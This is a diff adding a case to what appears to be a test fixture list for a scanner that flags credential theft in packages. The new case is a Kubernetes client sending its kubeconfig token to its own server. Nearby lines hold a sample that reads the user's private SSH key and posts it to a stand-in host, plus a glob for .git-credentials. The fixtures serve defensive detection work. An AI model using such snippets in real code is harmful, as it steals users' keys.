@@ -327,6 +327,15 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       weight: 'weak',
     },
     {
+      when: 'a client shows its token at the server that the same file names, when it is called',
+      files: {
+        'index.js': `import https from 'node:https'; import { conf } from './conf.js'; export class Kube { constructor(c) { this.conf = c; } get(path) { const headers = { authorization: 'Bearer ' + this.conf.token }; return https.request(new URL(path, this.conf.server), { headers }).end(); } static async connect() { return new Kube(await conf()); } }`,
+        'conf.js': `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import YAML from 'yaml'; export async function conf() { const doc = YAML.parse(await readFile(homedir() + '/.kube/config', 'utf8')); return { server: doc.clusters[0].cluster.server, token: doc.users[0].user.token }; }`,
+        'package.json': { type: 'module', main: 'index.js' },
+      },
+      weight: 'context',
+    },
+    {
       when: 'a key is sent under the name of one that stays here, by a library that sends what it is given',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), axios = require('axios'); exports.report = () => axios.post('https://a.invalid/', { key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });`,
